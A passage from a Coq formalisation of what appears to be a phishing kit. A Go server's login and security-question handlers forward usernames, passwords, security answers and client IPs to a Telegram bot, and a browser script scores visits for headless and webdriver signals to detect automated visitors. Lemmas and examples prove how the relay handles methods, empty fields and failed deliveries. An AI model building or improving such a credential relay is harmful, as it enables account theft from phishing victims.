    (audio_throws e, 1) ].

Definition signals (e : Environment) : list (bool * Z) :=
  (map (fun fired => (fired, 2)) (automationMarkers e) ++ otherSignals e)%list.

Fixpoint firedWeight (l : list (bool * Z)) : Z :=
  match l with
  | [] => 0
  | (fired, weight) :: rest =>
      (if fired then weight else 0) + firedWeight rest
  end.

Definition fired (l : list bool) : nat := List.length (List.filter (fun b : bool => b) l).

(** *** The signal groups as a list *)

Definition Check : Type := Environment -> Page -> Page.

Definition checks : list Check :=
  [ checkAutomationFlags; checkBrowserConsistency; checkBehaviorPatterns;
    checkHeadlessBrowser ].

(** [detectBot] with its four calls made in the given order. *)
Definition detectBotIn (order : list Check) (e : Environment) (p : Page)
  : Page * bool :=
  let p := fold_left (fun p check => check e p) order (setScore 0 p) in
  (p, BOT_THRESHOLD <=? botDetectionScore p).

(** What a group adds to an empty accumulator. *)
Definition contribution (check : Check) (e : Environment) : Z :=
  botDetectionScore (check e blank).

(** The part of the page no event changes, and what a report carries. *)
Definition sameSession (fp : string) (p : Page) : Prop :=
  cachedFingerprint p = fp /\ Forall (fun r => fingerprint r = fp) (reports p).

(** The trackers and the submit listeners of a page. *)
Definition frame (p : Page) : list Tracker * list Listener :=
  (trackers p, submitListeners p).

(** The submit listeners of a page that [initAntiBotProtection] set up:
    the honeypot listener, the timing listener, then one behavior
    listener for each tracker. *)
Definition installed (p : Page) : Prop :=
  submitListeners p
  = honeypotListener :: timingListener
    :: map behaviorListener (seq 0 (List.length (trackers p))).

(** *** Two environments for the examples *)

(** A desktop browser in which no signal fires. *)
Definition desktop : Environment :=
  {| navigator_webdriver := boolean false;
     attribute_webdriver := null; attribute_selenium := null;
     attribute_driver := null;
     window_callPhantom := undefined; window__phantom := undefined;
     window_phantom := undefined; window___nightmare := undefined;
     window_domAutomation := undefined;
     window_domAutomationController := undefined;
     navigator_plugins_length := 5;
     navigator_languages := Some [ "en-US"; "en" ];
     ontouchstart_in_window := false;
     navigator_maxTouchPoints := number 0;
     navigator_userAgent :=
       "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
     screen_width := 1920; screen_height := 1080;
     window_chrome := object;
     navigator_permissions := object;
     audio_throws := false;
     navigator_language := "en-US";
     screen_colorDepth := 24;
     timezoneOffset := -60;
     navigator_hardwareConcurrency := Some 8%N;
     navigator_deviceMemory := Some 32%N;
     window_localStorage := object; window_sessionStorage := object;
     window_indexedDB := object |}.

(** The same browser under a driver that sets [navigator.webdriver]. *)
Definition driven : Environment :=
  {| navigator_webdriver := boolean true;
     attribute_webdriver := null; attribute_selenium := null;
     attribute_driver := null;
     window_callPhantom := undefined; window__phantom := undefined;
     window_phantom := undefined; window___nightmare := undefined;
     window_domAutomation := undefined;
     window_domAutomationController := undefined;
     navigator_plugins_length := 5;
     navigator_languages := Some [ "en-US"; "en" ];
     ontouchstart_in_window := false;
     navigator_maxTouchPoints := number 0;
     navigator_userAgent :=
       "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
     screen_width := 1920; screen_height := 1080;
     window_chrome := object;
     navigator_permissions := object;
     audio_throws := false;
     navigator_language := "en-US";
     screen_colorDepth := 24;
     timezoneOffset := -60;
     navigator_hardwareConcurrency := Some 8%N;
     navigator_deviceMemory := Some 32%N;
     window_localStorage := object; window_sessionStorage := object;
     window_indexedDB := object |}.

End Script.

(** ** A small library and two worlds for the worked examples

    [exampleLib] implements the interface on the handful of bodies the
    examples use: form bodies without escapes are parsed the way
    [url.ParseQuery] parses them, JSON bodies are decoded from a table. *)

Module Examples.

Definition ampersand : ascii := ascii_of_nat 38.
Definition equals : ascii := ascii_of_nat 61.

Fixpoint has_escape (s : string) : bool :=
  match s with
  | EmptyString => false
  | String c rest =>
      Ascii.eqb c (ascii_of_nat 37) || Ascii.eqb c (ascii_of_nat 43)
      || Ascii.eqb c (ascii_of_nat 59) || has_escape rest
  end.

Fixpoint parseFields (fields : list string) (v : Values) : Values :=
  match fields with
  | [] => v
  | field :: rest =>
      if String.eqb field "" then parseFields rest v
      else match Split field equals with
           | key :: value =>
               parseFields rest (Values_Add key (String.concat "=" value) v)
           | [] => parseFields rest v
           end
  end.

Definition exampleParseForm (r : Request) : option Values :=
  match Body r with
  | Some body =>
      if has_escape body then None
      else Some (parseFields (Split body ampersand) ∅)
  | None => None
  end.

(** The text of a JSON object whose members are all strings. *)
Fixpoint members (fields : list (string * string)) : string :=
  match fields with
  | [] => ""
  | [ (k, v) ] => quoted k ++ ":" ++ quoted v
  | (k, v) :: rest => quoted k ++ ":" ++ quoted v ++ "," ++ members rest
  end.

Definition object (fields : list (string * string)) : string :=
  "{" ++ members fields ++ "}".

Definition epoch : Time := {| unixNano := 0; zoneOffset := 0 |}.

Definition emptyUserBody : string :=
  object [ ("username", ""); ("password", "hunter2") ].
Definition aliceBody : string :=
  object [ ("username", "alice"); ("password", "hunter2") ].
Definition blankAnswersBody : string :=
  object [ ("answer1", ""); ("answer2", ""); ("answer3", "") ].
Definition reportBody : string :=
  "{" ++ quoted "score" ++ ":4," ++ quoted "fingerprint" ++ ":" ++ quoted "fp"
  ++ "," ++ quoted "timestamp" ++ ":" ++ quoted "1970-01-01T00:00:00Z" ++ "}".

Definition decodeFrom {A : Type} (table : list (string * A)) (body : string)
  : A + string :=
  match find (fun entry => String.eqb (fst entry) body) table with
  | Some entry => inl (snd entry)
  | None => inr "invalid character looking for beginning of value"
  end.

#[export] Instance exampleLib : GoLib := {|
  ParseForm := exampleParseForm;
  Unmarshal_LoginRequest := decodeFrom
    [ (emptyUserBody, {| Username := ""; Password := "hunter2"; SecurityAnswers := [] |});
      (aliceBody, {| Username := "alice"; Password := "hunter2"; SecurityAnswers := [] |}) ];
  Unmarshal_map := decodeFrom
    [ (blankAnswersBody,
       <[ "answer1" := "" ]> (<[ "answer2" := "" ]> (<[ "answer3" := "" ]> ∅))) ];
  Unmarshal_BotActivity := decodeFrom
    [ (reportBody, {| Score := 4; Fingerprint := "fp"; Timestamp := epoch; IP := "" |}) ];
  Marshal_string := quoted;
  Format_RFC3339 := fun t =>
    if (unixNano t =? 0) && (zoneOffset t =? 0) then "1970-01-01T00:00:00Z"
    else "unix-nano:" ++ pretty (unixNano t)
|}.

Definition exampleEnv (name : string) : string :=
  if String.eqb name "TELEGRAM_BOT_TOKEN" then "TOKEN"
  else if String.eqb name "TELEGRAM_CHAT_ID" then "42"
  else "".

(** The messaging API answers 200. *)
Definition worldUp : World :=
  {| Getenv := exampleEnv; Now := epoch;
     PostForm := fun _ _ => PostResponds 200 "ok" |}.

(** The outbound call fails. *)
Definition worldDown : World :=
  {| Getenv := exampleEnv; Now := epoch;
     PostForm := fun _ _ => PostFails "connection refused" |}.

Definition request (method path contentType : string) (body : string) : Request :=
  {| Method := method; URL := path;
     Header := {[ "Content-Type" := contentType ]};
     RemoteAddr := "203.0.113.7:51234"; Body := Some body |}.

Definition formPost (path body : string) : Request :=
  request "POST" path "application/x-www-form-urlencoded" body.

Definition jsonPost (path body : string) : Request :=
  request "POST" path "application/json" body.

End Examples.

(** ** Further definitions: [main], and the measures of the later theorems *)

(** How [main] ends: [log.Fatal], or [http.ListenAndServe] on an address
    with the handlers it registered (the static file server on the root
    pattern is left out of the list). *)
Inductive Startup `{Lib : GoLib} :=
| Fatal (message : string)
| ListenAndServe (addr : string) (mux : list (string * (Request -> Handler unit))).

(** [main], in a world that holds the environment as it is after
    [godotenv.Load]. *)
Definition main `{Lib : GoLib} (W : World) : Startup :=
  let botToken := Getenv W "TELEGRAM_BOT_TOKEN" in
  let chatID := Getenv W "TELEGRAM_CHAT_ID" in
  let port := Getenv W "PORT" in
  let port := if String.eqb port "" then "8080" else port in
  if String.eqb botToken "" || String.eqb chatID "" then
    Fatal "TELEGRAM_BOT_TOKEN and TELEGRAM_CHAT_ID environment variables must be set"
  else
    ListenAndServe (":" ++ port) (routes W).

(** The status codes the three handlers write. *)
Definition statusCodes : list Z :=
  [ StatusOK; StatusSeeOther; StatusBadRequest; StatusMethodNotAllowed;
    StatusUnsupportedMediaType; StatusInternalServerError ].

(** What every exchange of the three handlers ends with: the three
    cross-origin headers, a status of the list, and no outbound call or
    the one of a single [sendTelegramMessage]. *)
Definition answeredWell (W : World) (x : Exchange) : Prop :=
  (w_header x !! "Access-Control-Allow-Origin") = Some "*" /\
  (w_header x !! "Access-Control-Allow-Methods") = Some "POST, OPTIONS" /\
  (w_header x !! "Access-Control-Allow-Headers") = Some "Content-Type" /\
  (exists c, w_status x = Some c /\ In c statusCodes) /\
  (posted x = [] \/ exists text, posted x = deliveries W text).

(** The byte occurs in the string. *)
Fixpoint has_byte (c : ascii) (s : string) : bool :=
  match s with
  | EmptyString => false
  | String c' rest => Ascii.eqb c' c || has_byte c rest
  end.

(** [s] is [field], or [field] followed by the separator and more. *)
Definition first_field (sep : ascii) (field s : string) : Prop :=
  has_byte sep field = false /\
  (s = field \/ exists rest, s = field ++ String sep rest).

(** The hash sign, and the fields of a string between runs of three of
    them: what a reader of a fingerprint gets back when it splits it at
    the delimiter of [generateFingerprint]. *)
Definition hash : ascii := ascii_of_nat 35.

Fixpoint fields (s : string) : list string :=
  match s with
  | EmptyString => [ EmptyString ]
  | String c rest =>
      match rest with
      | String c2 (String c3 rest3) =>
          if Ascii.eqb c hash && Ascii.eqb c2 hash && Ascii.eqb c3 hash then
            EmptyString :: fields rest3
          else
            match fields rest with
            | field :: more => String c field :: more
            | [] => [ String c EmptyString ]
            end
      | _ =>
          match fields rest with
          | field :: more => String c field :: more
          | [] => [ String c EmptyString ]
          end
      end
  end.

(** *** Measures on the events of a page *)

(** The number of position changes in a sequence of mouse positions, as
    seen from a last position. *)
Fixpoint changes (lastX lastY : Z) (moves : list (Z * Z)) : Z :=
  match moves with
  | [] => 0
  | (x, y) :: rest =>
      (if (x =? lastX) && (y =? lastY) then 0 else 1) + changes x y rest
  end.

(** A tracker after the mouse went through the positions. *)
Definition moved (moves : list (Z * Z)) (t : Script.Tracker) : Script.Tracker :=
  fold_left (fun t move => Script.onMouseMove (fst move) (snd move) t) moves t.

(** A tracker after input events at the given times, and how many of
    them added 1 to the score. *)
Fixpoint typed (times : list Z) (t : Script.Tracker) : Script.Tracker * Z :=
  match times with
  | [] => (t, 0)
  | now :: rest =>
      let (t', added) := Script.onInput now t in
      let (t'', more) := typed rest t' in
      (t'', (if added then 1 else 0) + more)
  end.

(** The times of the tick events of a sequence. *)
Fixpoint ticks (events : list Script.Event) : list string :=
  match events with
  | [] => []
  | Script.tick now :: rest => now :: ticks rest
  | _ :: rest => ticks rest
  end.

(** The number of calls of [detectBot] a sequence of events makes on a
    page [initAntiBotProtection] set up: one for each tick and each submit. *)
Fixpoint passes (events : list Script.Event) : nat :=
  match events with
  | [] => 0
  | Script.tick _ :: rest => S (passes rest)
  | Script.submit _ :: rest => S (passes rest)
  | _ :: rest => passes rest
  end.

(** The string with its letters A to Z in lower case. *)
Fixpoint lowercase (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c rest => String (Script.lower c) (lowercase rest)
  end.

(** A browser in which every signal of a pass fires. *)
Definition headless : Script.Environment :=
  {| Script.navigator_webdriver := Script.boolean true;
     Script.attribute_webdriver := Script.text "true";
     Script.attribute_selenium := Script.null;
     Script.attribute_driver := Script.null;
     Script.window_callPhantom := Script.object;
     Script.window__phantom := Script.undefined;
     Script.window_phantom := Script.undefined;
     Script.window___nightmare := Script.object;
     Script.window_domAutomation := Script.object;
     Script.window_domAutomationController := Script.undefined;
     Script.navigator_plugins_length := 0;
     Script.navigator_languages := Some [];
     Script.ontouchstart_in_window := false;
     Script.navigator_maxTouchPoints := Script.number 0;
     Script.navigator_userAgent :=
       "Mozilla/5.0 (Linux; Android 10) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Mobile Safari/537.36";
     Script.screen_width := 0; Script.screen_height := 0;
     Script.window_chrome := Script.undefined;
     Script.navigator_permissions := Script.object;
     Script.audio_throws := true;
     Script.navigator_language := "en-US";
     Script.screen_colorDepth := 24;
     Script.timezoneOffset := 0;
     Script.navigator_hardwareConcurrency := None;
     Script.navigator_deviceMemory := None;
     Script.window_localStorage := Script.object;
     Script.window_sessionStorage := Script.object;
     Script.window_indexedDB := Script.object |}.

(** * Theorems: the relay handlers *)

Import Examples.

Lemma Split_not_nil (s : string) (sep : ascii) : Split s sep <> [].
Proof.
  induction s as [|c s IH]; cbn; [discriminate|].
  destruct (Ascii.eqb c sep); [discriminate|].
  destruct (Split s sep); discriminate.
Qed.

(** Unfolds the monad and the primitive operations on an exchange. *)
Ltac exchange :=
  unfold http_Error, http_Redirect;
  unfold mbind, mret, Handler_bind, Handler_ret,
    Header_Set, WriteHeader, Write, log_Print, do_PostForm;
  cbn.

(** ** What one call of [sendTelegramMessage] does to an exchange *)

Lemma sendTelegramMessage_frame (W : World) (text : string) (x : Exchange) :
  fst (sendTelegramMessage W text x) = deliveryError W text /\
  w_header (snd (sendTelegramMessage W text x)) = w_header x /\
  w_status (snd (sendTelegramMessage W text x)) = w_status x /\
  w_body (snd (sendTelegramMessage W text x)) = w_body x /\
  posted (snd (sendTelegramMessage W text x)) = (posted x ++ deliveries W text)%list /\
  logged (snd (sendTelegramMessage W text x)) = (logged x ++ deliveryLog W text)%list.
Proof.
  unfold deliveryError, deliveryLog, deliveries, configured, nonempty, apiURL,
    telegramForm, sendTelegramMessage.
  destruct (String.eqb (Getenv W "TELEGRAM_BOT_TOKEN") ""); exchange.
  { rewrite !app_nil_r. tauto. }
  destruct (String.eqb (Getenv W "TELEGRAM_CHAT_ID") ""); exchange.
  { rewrite !app_nil_r. tauto. }
  destruct (PostForm W _ _) as [err|code body]; exchange.
  { rewrite <- !app_assoc. tauto. }
  destruct (code =? StatusOK); exchange; rewrite <- !app_assoc; tauto.
Qed.

Lemma deliveryError_None (W : World) (text : string) :
  deliveryError W text = None <->
  configured W = true /\
  exists body, PostForm W (apiURL W) (telegramForm W text) = PostResponds StatusOK body.
Proof.
  unfold deliveryError, configured, nonempty, apiURL, telegramForm,
    sendTelegramMessage.
  destruct (String.eqb (Getenv W "TELEGRAM_BOT_TOKEN") ""); exchange.
  { split; [discriminate | intros [? _]; discriminate]. }
  destruct (String.eqb (Getenv W "TELEGRAM_CHAT_ID") ""); exchange.
  { split; [discriminate | intros [? _]; discriminate]. }
  destruct (PostForm W _ _) as [err|code body]; exchange.
  { split; [discriminate | intros [_ [? ?]]; discriminate]. }
  destruct (code =? StatusOK) eqn:Hcode; exchange.
  - apply Z.eqb_eq in Hcode. subst code. split; eauto.
  - apply Z.eqb_neq in Hcode.
    split; [discriminate | intros [_ [? Heq]]; congruence].
Qed.

#[global] Arguments sendTelegramMessage : simpl never.

(** Inside a handler: names the error of the pending call of
    [sendTelegramMessage] and describes the exchange it leaves by
    [sendTelegramMessage_frame]. *)
Ltac deliver :=
  match goal with
  | |- context [ sendTelegramMessage ?W ?text ?x ] =>
      let Hframe := fresh "Hframe" in
      pose proof (sendTelegramMessage_frame W text x) as Hframe;
      destruct (sendTelegramMessage W text x) as [?err ?x'];
      cbn [fst snd] in Hframe;
      destruct Hframe as (-> & ?Hhdr & ?Hst & ?Hbody & ?Hposted & ?Hlogged);
      cbn [w_header w_status w_body posted logged app] in *
  end.

Section ServerFacts.

Context `{Lib : GoLib}.
Variable W : World.

Lemma eqb_method_other (r : Request) (m : string) :
  Method r <> m -> String.eqb (Method r) m = false.
Proof. intros H. by apply String.eqb_neq. Qed.

(** *** The three handlers share their first lines *)

Lemma preflight (r : Request) (h : Request -> Handler unit) :
  In h [ loginHandler W; securityHandler W; logBotActivityHandler W ] ->
  Method r = "OPTIONS" ->
  w_status (run (h r)) = Some StatusOK /\ w_body (run (h r)) = "" /\
  posted (run (h r)) = [] /\ logged (run (h r)) = [].
Proof.
  intros Hin Hm. cbn in Hin.
  destruct Hin as [<-|[<-|[<-|[]]]];
    unfold run, loginHandler, securityHandler, logBotActivityHandler;
    rewrite Hm; exchange; auto.
Qed.

Lemma wrong_method (r : Request) (h : Request -> Handler unit) :
  In h [ loginHandler W; securityHandler W; logBotActivityHandler W ] ->
  Method r <> "OPTIONS" -> Method r <> "POST" ->
  w_status (run (h r)) = Some StatusMethodNotAllowed /\
  posted (run (h r)) = [] /\ logged (run (h r)) = [].
Proof.
  intros Hin Ho Hp. cbn in Hin.
  destruct Hin as [<-|[<-|[<-|[]]]];
    unfold run, loginHandler, securityHandler, logBotActivityHandler;
    rewrite (eqb_method_other r "OPTIONS" Ho), (eqb_method_other r "POST" Hp);
    exchange; auto.
Qed.

(** *** [loginHandler], the form branch *)

Lemma login_form (r : Request) (form : Values) :
  Method r = "POST" ->
  Header_Get r "Content-Type" = "application/x-www-form-urlencoded" ->
  ParseForm r = Some form ->
  let message :=
    loginMessage (Values_Get form "userId") (Values_Get form "Passcode")
      (clientIP r) (Format_RFC3339 (Now W)) in
  let x := run (loginHandler W r) in
  w_status x = Some StatusSeeOther /\
  (w_header x !! "Location") = Some "/security.html" /\
  w_body x = "" /\
  posted x = deliveries W message /\
  (forall e, deliveryError W message = Some e ->
     last (logged x) = Some ("Failed to send Telegram message: " ++ e)).
Proof.
  intros Hm Hct Hform. unfold run, loginHandler.
  rewrite Hm, Hct, Hform. exchange. deliver.
  destruct (deliveryError W _) as [e|] eqn:Herr; exchange.
  - rewrite Hst, Hbody, Hposted.
    split_and!; [done | apply lookup_insert_eq | done | done |].
    intros e' [= <-]. by rewrite last_snoc.
  - rewrite Hst, Hbody, Hposted.
    split_and!; [done | apply lookup_insert_eq | done | done | done].
Qed.

(** *** [loginHandler], the JSON branch *)

Lemma login_json_rejects (r : Request) (bodyBytes : string) (req : LoginRequest) :
  Method r = "POST" ->
  Header_Get r "Content-Type" = "application/json" ->
  Body r = Some bodyBytes ->
  Unmarshal_LoginRequest bodyBytes = inl req ->
  Username req = "" \/ Password req = "" ->
  w_status (run (loginHandler W r)) = Some StatusBadRequest /\
  posted (run (loginHandler W r)) = [].
Proof.
  intros Hm Hct Hbody Hreq Hempty. unfold run, loginHandler.
  rewrite Hm, Hct, Hbody, Hreq. exchange.
  assert (String.eqb (Username req) "" || String.eqb (Password req) "" = true)
    as ->.
  { apply orb_true_iff.
    destruct Hempty as [->| ->]; [left|right]; reflexivity. }
  exchange. auto.
Qed.

Lemma login_json (r : Request) (bodyBytes : string) (req : LoginRequest) :
  Method r = "POST" ->
  Header_Get r "Content-Type" = "application/json" ->
  Body r = Some bodyBytes ->
  Unmarshal_LoginRequest bodyBytes = inl req ->
  Username req <> "" -> Password req <> "" ->
  let message :=
    loginMessage (Username req) (Password req)
      (clientIP r) (Format_RFC3339 (Now W)) in
  let x := run (loginHandler W r) in
  posted x = deliveries W message /\
  (forall e, deliveryError W message = Some e ->
     w_status x = Some StatusInternalServerError /\
     w_body x = loginFailureBody /\
     last (logged x) = Some ("Failed to send Telegram message: " ++ e)) /\
  (deliveryError W message = None ->
     w_status x = Some StatusOK /\ w_body x = loginSuccessBody (Username req)).
Proof.
  intros Hm Hct Hbody Hreq Hu Hp. unfold run, loginHandler.
  rewrite Hm, Hct, Hbody, Hreq. exchange.
  apply String.eqb_neq in Hu, Hp. rewrite Hu, Hp. exchange. deliver.
  destruct (deliveryError W _) as [e|] eqn:Herr; exchange.
  - rewrite Hst, Hbody0, Hposted. split_and!; [done | | done].
    intros e' [= <-]. split_and!; [done | done |]. by rewrite last_snoc.
  - rewrite Hst, Hbody0, Hposted. split_and!; done.
Qed.

(** Whatever the request and the world, [loginHandler] ends with a
    status written. *)
Lemma login_responds (r : Request) : responded (run (loginHandler W r)) = true.
Proof.
  unfold responded, run, loginHandler.
  destruct (String.eqb (Method r) "OPTIONS"); exchange; [done|].
  destruct (String.eqb (Method r) "POST"); exchange; [|done].
  destruct (String.eqb (Header_Get r "Content-Type")
              "application/x-www-form-urlencoded"); exchange.
  { destruct (ParseForm r) as [form|]; exchange; [|done].
    deliver. destruct (deliveryError W _); exchange; by rewrite Hst. }
  destruct (String.eqb (Header_Get r "Content-Type") "application/json");
    exchange; [|done].
  destruct (Body r) as [bodyBytes|]; exchange; [|done].
  destruct (Unmarshal_LoginRequest bodyBytes) as [req|e]; exchange; [|done].
  destruct (String.eqb (Username req) "" || String.eqb (Password req) "");
    exchange; [done|].
  deliver. destruct (deliveryError W _); exchange; by rewrite Hst.
Qed.

(** *** [securityHandler] *)

Lemma security_deliver (r : Request) (answer1 answer2 answer3 : string)
    (x : Exchange) :
  w_status x = None -> w_body x = "" -> posted x = [] ->
  let message :=
    securityMessage answer1 answer2 answer3 (clientIP r)
      (Format_RFC3339 (Now W)) in
  let y := snd (securityDeliver W r answer1 answer2 answer3 x) in
  posted y = deliveries W message /\
  (forall e, deliveryError W message = Some e ->
     w_status y = Some StatusInternalServerError /\
     w_body y = securityFailureBody /\
     last (logged y)
       = Some ("Failed to send security answers to Telegram: " ++ e)) /\
  (deliveryError W message = None ->
     w_status y = Some StatusOK /\ w_body y = securitySuccessBody).
Proof.
  intros Hs Hb Hp. unfold securityDeliver. exchange. deliver.
  destruct (deliveryError W _) as [e|] eqn:Herr; exchange.
  - rewrite Hst, Hbody, Hposted, Hs, Hb, Hp. split_and!; [done | | done].
    intros e' [= <-]. split_and!; [done | done |]. by rewrite last_snoc.
  - rewrite Hst, Hbody, Hposted, Hs, Hb, Hp. split_and!; done.
Qed.

Lemma security_parsed (r : Request) (answer1 answer2 answer3 : string) :
  Method r = "POST" ->
  parsedAnswers r answer1 answer2 answer3 ->
  run (securityHandler W r)
  = snd (securityDeliver W r answer1 answer2 answer3
           (snd ((Header_Set "Access-Control-Allow-Origin" "*" ;;
                  Header_Set "Access-Control-Allow-Methods" "POST, OPTIONS" ;;
                  Header_Set "Access-Control-Allow-Headers" "Content-Type")
                   fresh))).
Proof.
  intros Hm [[Hct (form & Hform & -> & -> & ->)]
            |[Hct (bodyBytes & data & Hbody & Hdata & -> & -> & ->)]];
    unfold run, securityHandler; rewrite Hm, Hct.
  - rewrite Hform. reflexivity.
  - rewrite Hbody, Hdata. reflexivity.
Qed.

(** *** [logBotActivityHandler] *)

Lemma report_decoded (r : Request) (bodyBytes : string) (decoded : BotActivity) :
  Method r = "POST" ->
  Body r = Some bodyBytes ->
  Unmarshal_BotActivity bodyBytes = inl decoded ->
  let message := botActivityMessage (received r decoded) in
  let x := run (logBotActivityHandler W r) in
  w_status x = Some StatusOK /\
  w_body x = botActivityBody /\
  w_header x =
    <[ "Content-Type" := "application/json" ]>
      (<[ "Access-Control-Allow-Headers" := "Content-Type" ]>
         (<[ "Access-Control-Allow-Methods" := "POST, OPTIONS" ]>
            (<[ "Access-Control-Allow-Origin" := "*" ]> ∅))) /\
  posted x = deliveries W message /\
  (forall e, deliveryError W message = Some e ->
     last (logged x) = Some ("Failed to send bot activity to Telegram: " ++ e)).
Proof.
  intros Hm Hbody Hdec. unfold run, logBotActivityHandler.
  rewrite Hm, Hbody, Hdec. exchange. deliver.
  destruct (deliveryError W _) as [e|] eqn:Herr; exchange.
  - rewrite Hst, Hbody0, Hposted, Hhdr. split_and!; [done | done | done | done |].
    intros e' [= <-]. by rewrite last_snoc.
  - rewrite Hst, Hbody0, Hposted, Hhdr. split_and!; done.
Qed.

End ServerFacts.

(** C10. On each of the three registered routes a request that is neither
    POST nor OPTIONS is answered 405 and no outbound call is made, and an
    OPTIONS request is answered 200 with an empty body. *)
Theorem method_gate `{Lib : GoLib} (W : World) (path : string)
    (h : Request -> Handler unit) (r : Request) :
  In (path, h) (routes W) ->
  (Method r = "OPTIONS" ->
     w_status (run (h r)) = Some StatusOK /\ w_body (run (h r)) = "" /\
     posted (run (h r)) = []) /\
  (Method r <> "POST" -> Method r <> "OPTIONS" ->
     w_status (run (h r)) = Some StatusMethodNotAllowed /\
     posted (run (h r)) = []).
Proof.
  intros Hroute.
  assert (In h [ loginHandler W; securityHandler W; logBotActivityHandler W ])
    as Hin.
  { apply (in_map snd) in Hroute. exact Hroute. }
  split.
  - intros Hm. destruct (preflight W r h Hin Hm) as (? & ? & ? & _). auto.
  - intros Hp Ho. destruct (wrong_method W r h Hin Ho Hp) as (? & ? & _). auto.
Qed.

Lemma method_gate_witness :
  (w_status (run (logBotActivityHandler worldUp
                    (request "OPTIONS" "/log-bot-activity" "" ""))) = Some StatusOK /\
   w_body (run (logBotActivityHandler worldUp
                  (request "OPTIONS" "/log-bot-activity" "" ""))) = "" /\
   posted (run (logBotActivityHandler worldUp
                  (request "OPTIONS" "/log-bot-activity" "" ""))) = []) /\
  (w_status (run (loginHandler worldUp (request "GET" "/login" "" "")))
     = Some StatusMethodNotAllowed /\
   posted (run (loginHandler worldUp (request "GET" "/login" "" ""))) = []).
Proof.
  split.
  - apply (method_gate worldUp "/log-bot-activity" _
             (request "OPTIONS" "/log-bot-activity" "" "")).
    + cbn. auto.
    + reflexivity.
  - apply (method_gate worldUp "/login" _ (request "GET" "/login" "" "")).
    + cbn. auto.
    + discriminate.
    + discriminate.
Defined.

(** ** The claims about the relay *)

(** C1, at the input where the code departs from it.  A form-encoded
    POST to /login whose two fields are empty is not refused: the form
    branch of [loginHandler] has no check of [username] and [password],
    so the message is posted to the messaging API and the client is
    redirected with 303, which is no client error.  The JSON branch of
    the same handler does refuse such a submission ([login_json_rejects]). *)
Theorem login_form_forwards_empty_credentials :
  let r := formPost "/login" "userId=&Passcode=" in
  let x := run (loginHandler worldUp r) in
  (exists form, ParseForm r = Some form /\
     Values_Get form "userId" = "" /\ Values_Get form "Passcode" = "") /\
  w_status x = Some StatusSeeOther /\
  clientError x = false /\
  posted x =
    [ (apiURL worldUp,
       telegramForm worldUp
         (loginMessage "" "" "203.0.113.7" "1970-01-01T00:00:00Z")) ].
Proof.
  cbv zeta. split_and!.
  - eexists. split; [reflexivity|]. split; vm_compute; reflexivity.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
Qed.

(** C4 as stated fails on the form branch: with the outbound call
    failing, a well-formed form submission is answered by the same 303
    redirect as a delivered one, not by an error. *)
Lemma login_form_failure_not_surfaced :
  let r := formPost "/login" "userId=alice&Passcode=hunter2" in
  let message := loginMessage "alice" "hunter2" "203.0.113.7" "1970-01-01T00:00:00Z" in
  ~ (deliveryError worldDown message <> None ->
     errorShaped (run (loginHandler worldDown r)) = true).
Proof.
  cbv zeta. intros H.
  assert (errorShaped
            (run (loginHandler worldDown
                    (formPost "/login" "userId=alice&Passcode=hunter2"))) = false)
    as Hredirect by (vm_compute; reflexivity).
  rewrite H in Hredirect; [discriminate|].
  vm_compute. discriminate.
Qed.

(** C4, amended.  [loginHandler] always ends with a status written.
    When the outbound call fails or is answered by a status other than
    200, the failure is logged on both branches; a JSON submission with
    both fields set is answered 500 with the fixed JSON error body, and a
    form submission that parses is answered by the 303 redirect to
    /security.html that a delivered one gets. *)
Theorem login_delivery_failure `{Lib : GoLib} (W : World) (r : Request) (e : string) :
  Method r = "POST" ->
  responded (run (loginHandler W r)) = true /\
  (forall bodyBytes req,
     Header_Get r "Content-Type" = "application/json" ->
     Body r = Some bodyBytes ->
     Unmarshal_LoginRequest bodyBytes = inl req ->
     Username req <> "" -> Password req <> "" ->
     deliveryError W (loginMessage (Username req) (Password req) (clientIP r)
                        (Format_RFC3339 (Now W))) = Some e ->
     w_status (run (loginHandler W r)) = Some StatusInternalServerError /\
     w_body (run (loginHandler W r)) = loginFailureBody /\
     last (logged (run (loginHandler W r)))
       = Some ("Failed to send Telegram message: " ++ e)) /\
  (forall form,
     Header_Get r "Content-Type" = "application/x-www-form-urlencoded" ->
     ParseForm r = Some form ->
     deliveryError W (loginMessage (Values_Get form "userId")
                        (Values_Get form "Passcode") (clientIP r)
                        (Format_RFC3339 (Now W))) = Some e ->
     w_status (run (loginHandler W r)) = Some StatusSeeOther /\
     (w_header (run (loginHandler W r)) !! "Location") = Some "/security.html" /\
     w_body (run (loginHandler W r)) = "" /\
     last (logged (run (loginHandler W r)))
       = Some ("Failed to send Telegram message: " ++ e)).
Proof.
  intros Hm. split_and!.
  - apply login_responds.
  - intros bodyBytes req Hct Hbody Hreq Hu Hp Herr.
    destruct (login_json W r bodyBytes req Hm Hct Hbody Hreq Hu Hp)
      as (_ & Hfail & _).
    exact (Hfail e Herr).
  - intros form Hct Hform Herr.
    destruct (login_form W r form Hm Hct Hform) as (Hs & Hl & Hb & _ & Hlog).
    split_and!; auto.
Qed.

Lemma login_delivery_failure_witness :
  w_status (run (loginHandler worldDown (jsonPost "/login" aliceBody)))
    = Some StatusInternalServerError /\
  w_body (run (loginHandler worldDown (jsonPost "/login" aliceBody)))
    = loginFailureBody /\
  last (logged (run (loginHandler worldDown (jsonPost "/login" aliceBody))))
    = Some ("Failed to send Telegram message: "
            ++ "telegram API request failed: connection refused").
Proof.
  refine (proj1 (proj2 (login_delivery_failure worldDown
            (jsonPost "/login" aliceBody)
            "telegram API request failed: connection refused" _))
          aliceBody
          {| Username := "alice"; Password := "hunter2"; SecurityAnswers := [] |}
          _ _ _ _ _ _).
  - reflexivity.
  - reflexivity.
  - reflexivity.
  - vm_compute. reflexivity.
  - discriminate.
  - discriminate.
  - vm_compute. reflexivity.
Defined.

(** C5.  A POST to /log-bot-activity whose body decodes into a
    [BotActivity] is answered 200 with the fixed success body and the
    same headers in every world, so whether or not the outbound call
    succeeds; a failed delivery only adds a line to the log. *)
Theorem report_always_succeeds `{Lib : GoLib} (W : World) (r : Request)
    (bodyBytes : string) (decoded : BotActivity) :
  Method r = "POST" ->
  Body r = Some bodyBytes ->
